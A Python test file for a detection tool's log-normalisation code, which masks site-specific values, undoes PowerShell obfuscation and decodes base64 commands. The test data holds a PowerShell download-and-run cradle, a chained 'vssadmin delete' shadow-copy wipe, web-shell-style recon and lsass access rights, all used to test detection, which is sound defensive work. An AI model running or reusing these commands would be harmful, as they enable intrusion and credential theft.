"""What the sentinel reads: the same act gives the same text, whoever tells of it and however."""

import base64
import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from appliance.detect.sentinel.masks import MAX_TEXT, WORDS, decode_base64, mask_text
from appliance.detect.sentinel.texts import KINDS, MAX_CHAIN, MAX_PARTS, list_texts, write_texts
from appliance.schema import LogSource, View

SYSTEM = "C:\\Windows\\System32\\"
CREATION = LogSource("windows", "process_creation")


def encode(script: str) -> str:
    """As for PowerShell's -EncodedCommand."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("ping 10.1.2.3", "ping xxlan"),
        ("ping 198.51.100.7 -n 1", "ping xxip -n 1"),
        ("ping 127.0.0.1", "ping 127.0.0.1"),
        ("get fe80:0:0:1::2:3", "get xxip"),
        ("{0F2C8D7E-1111-2222-3333-444455556666}", "xxguid"),
        ("HKU\\S-1-5-21-1-2-3-1001\\Software", "hku\\xxsid\\software"),
        ("S-1-5-18", "s-1-5-18"),
        ("mail bob.smith@corp.example now", "mail xxmail now"),
        ("curl https://user:pw@evil.example:8443/a/b?c", "curl https://xxsite:8443/a/b?c"),
        ("curl http://192.168.1.9/a", "curl http://xxlan/a"),
        ("curl http://203.0.113.9/a", "curl http://xxip/a"),
        ("curl http://intranet/a", "curl http://xxhost/a"),
        ("c:\\windows\\SysWOW64\\cmd.exe", "xxsys cmd.exe"),
        ("%SystemRoot%\\System32\\cmd.exe", "xxsys cmd.exe"),
        ("C:\\Users\\John Doe\\a.exe /x", "c:\\users\\xxuser\\a.exe /x"),
        ("C:\\Users\\bob copy", "c:\\users\\xxuser copy"),
        ("C:\\Users\\Public\\a.exe", "c:\\users\\public\\a.exe"),
        ("/home/alice/.ssh/id_rsa", "/home/xxuser/.ssh/id_rsa"),
        ("net use \\\\fs01\\c$", "net use \\\\xxhost\\c$"),
        ("\\\\.\\pipe\\x", "\\\\.\\pipe\\x"),
        ("at 2024-03-01T10:11:12Z and 10:11:12", "at xxtime and xxtime"),
        ("DWORD (0x00000001)", "dword (0x1)"),
        ("hash d41d8cd98f00b204e9800998ecf8427e", "hash xxhex"),
        ("port 51234 of 4444", "port xxnum of 4444"),
        ("kb5012345 0x121411 0x00001fff", "kbxxnum 0x121411 0x1fff"),
        ("v4.0.30319 127.0.0.1/8000", "v4.0.xxnum 127.0.0.1/8000"),
        ("on 24.12.2024 or 2024-12-24", "on xxtime or xxtime"),
        ("a\tb\r\n  c\x00d", "a b c d"),
        ("log of WS5 here", "log of ws5 here"),
    ],
)
def test_what_differs_from_site_to_site_is_taken_out(text: str, masked: str) -> None:
    assert mask_text(text) == masked


def test_the_events_own_host_is_taken_out() -> None:
    assert mask_text("from PLANT-07 to plant-070", "plant-07") == "from xxhost to plant-070"


@pytest.mark.parametrize(
    "evasion",
    [
        "PoWeRsHeLl -NoP IEX",
        "power^shell -nop iex",
        "power`shell -nop iex",
        'pow""ershell -nop iex',
        "powershell   -nop\tiex",
        "p\u043ewershell -n\u043ep iex",
        "\uff50owershell -nop iex",
        "power\u200bshell -nop iex",
        "powershell \u2013nop iex",
    ],
)
def test_a_way_of_writing_changes_nothing(evasion: str) -> None:
    assert mask_text(evasion) == "powershell -nop iex"


def test_hiding_words_shows() -> None:
    """Where it is done so often that no person does it by chance."""
    assert mask_text("p^o^w^e^r^s^h^e^l^l") == "xxodd powershell"
    assert mask_text("'p'+'o'+'w'+'er'") == "xxodd 'power'"


def test_a_path_is_no_base64() -> None:
    path = "usr/lib/python3/dist/packages/Foo/Bar/baz/qux7"
    assert mask_text(path) == path.lower()
    assert decode_base64(path) == []
    assert mask_text(f"-enc {encode('Get-Process | Sort CPU')}") == "-enc xxb64"


def test_what_base64_hides_is_judged() -> None:
    hidden = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
    fields = {"Image": SYSTEM + "powershell.exe", "CommandLine": f"powershell -e {encode(hidden)}"}
    texts = [text.text for text in write_texts("process", fields)]
    assert texts == [
        "process powershell.exe : powershell -e xxb64",
        "process powershell.exe xxb64 : "
        "iex (new-object net.webclient).downloadstring('http://xxip/a.ps1')",
    ]


def test_each_command_of_a_chain_is_judged() -> None:
    """Something harmless in front of it hides nothing."""
    fields = {"Image": SYSTEM + "cmd.exe", "CommandLine": "cmd /c dir & echo ok&&vssadmin delete x"}
    assert [text.text for text in write_texts("process", fields)] == [
        "process cmd.exe : cmd /c dir & echo ok&&vssadmin delete x",
        "process cmd.exe : cmd /c dir",
        "process cmd.exe : echo ok",
        "process cmd.exe : vssadmin delete x",
    ]
    for whole in ("curl http://h/?a=1&bb=22&c=3", "make all 2>&1 | tee log"):
        assert len(write_texts("process", {"CommandLine": whole})) == 1
    many = {"CommandLine": ";".join(f"echo {n}" for n in range(99))}
    assert len(write_texts("process", many)) == 1 + MAX_CHAIN


def test_sysmon_and_security_tell_the_same() -> None:
    command = "cmd.exe /c whoami /all"
    sysmon = {"Image": SYSTEM + "cmd.exe", "CommandLine": command, "ParentImage": "D:\\x\\w3wp.exe"}
    security = {
        "NewProcessName": SYSTEM + "cmd.exe",
        "CommandLine": command,
        "ParentProcessName": "D:\\x\\w3wp.exe",
    }
    expected = "process w3wp.exe > cmd.exe : cmd.exe /c whoami /all"
    for fields in (sysmon, security):
        assert [text.text for text in write_texts("process", fields)] == [expected]


@pytest.mark.parametrize(
    ("kind", "fields", "text"),
    [
        ("process", {"Image": "/usr/bin/id", "CommandLine": "id -u"}, "process id : id -u"),
        ("process", {"Image": SYSTEM + "a.exe"}, "process a.exe : xxsys a.exe"),
        ("process", {"CommandLine": "-"}, None),
        ("registry", {"TargetObject": "HKLM\\X", "Details": "y"}, "registry : hklm\\x = y"),
        ("service", {"ServiceName": "A", "ImagePath": "b.exe"}, "service a : b.exe"),
        ("service", {"ServiceName": "A"}, None),
        (
            "task",
            {
                "TaskName": "\\T",
                "TaskContent": "<Command>cmd</Command>\n<Arguments>/c x</Arguments>",
            },
            "task \\t : cmd /c x",
        ),
        ("file", {"Image": "a\\b.exe", "TargetFilename": "c:\\d"}, "file b.exe : c:\\d"),
        ("network", {"Image": "b.exe", "DestinationIp": "10.0.0.1", "DestinationPort": 445},
         "network b.exe : xxlan 445"),
        ("dns", {"QueryName": "A1B2C3D4E5F6A7B8.Example."}, "dns : a1b2c3d4e5f6a7b8.example."),
        ("url", {"cs-method": "GET", "cs-uri-stem": "/a", "cs-uri-query": "b=1",
                 "cs-user-agent": "curl/8"}, "url get : /a?b=1 | curl/8"),
        ("url", {"cs-uri": "/a?b", "cs-uri-stem": "/a", "cs-uri-query": [None, "b"]}, "url : /a?b"),
        ("log", {"program": "sshd", "message": "Failed"}, "log sshd : failed"),
        ("access", {"SourceImage": "a.exe", "TargetImage": SYSTEM + "lsass.exe",
                    "GrantedAccess": "0x1010"}, "access a.exe : xxsys lsass.exe 0x1010"),
    ],
)  # fmt: skip
def test_kinds(kind: str, fields: dict[str, Any], text: str | None) -> None:
    assert [found.text for found in write_texts(kind, fields)] == ([text] if text else [])


def test_a_script_comes_in_parts_that_end_with_a_statement() -> None:
    script = "\n".join(f"Write-Output 'statement number {n} of this script'" for n in range(400))
    texts = write_texts("script", {"ScriptBlockText": script})
    assert len(texts) == MAX_PARTS
    assert all(text.text.endswith("'") for text in texts)


def test_views_give_each_text_once() -> None:
    fields = {"CommandLine": "id", "message": "x"}
    views = [
        View(CREATION, fields),
        View(LogSource("windows", None, "sysmon"), fields),
        View(LogSource("linux", "process_creation"), fields),
        View(LogSource("linux", None, "sshd"), {"message": "hello", "program": "sshd"}),
    ]
    assert [text.text for text in list_texts(views, "")] == ["process : id", "log sshd : hello"]


@given(
    st.sampled_from(KINDS),
    st.dictionaries(
        st.sampled_from(
            ["CommandLine", "Image", "ScriptBlockText", "TargetObject", "ImagePath", "TaskContent",
             "QueryName", "message", "cs-uri-stem", "TargetFilename", "DestinationIp"]
        ),
        st.one_of(st.none(), st.integers(), st.text(), st.lists(st.text()), st.floats()),
    ),
    st.text(),
)  # fmt: skip
def test_no_fields_raise_anything(kind: str, fields: dict[str, Any], host: str) -> None:
    for text in write_texts(kind, fields, host):
        assert len(text.text) <= MAX_TEXT
        assert text.text.isprintable() or not text.text.isascii()
        assert text.text.startswith(kind)


HOSTILE = [
    "a" * 16384, "A1" * 9000, "\\users\\" * 3000, "1.2.3.4." * 2000, "x@" * 8000, "'+'" * 5000,
    "^" * 16000, "a:" * 8000, "/" * 16000, "{12345678-" * 1600, "aA1/" * 4096, "http://a" * 2000,
    "\\\\a" * 5000, "1" * 16000 + "a", "s-1-5-21" + "-1" * 8000, "\\users\\a " * 2000,
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: text[:12])
def test_hostile_text_costs_little(text: str) -> None:
    began = time.perf_counter()
    write_texts("process", {"CommandLine": text * 4})
    assert time.perf_counter() - began < 1.0


def test_words_are_words() -> None:
    """Each is one word to a tokenizer that splits at punctuation, and no ordinary one."""
    assert all(word.isalnum() and word.startswith("xx") for word in WORDS)
    assert len(set(WORDS)) == len(WORDS)
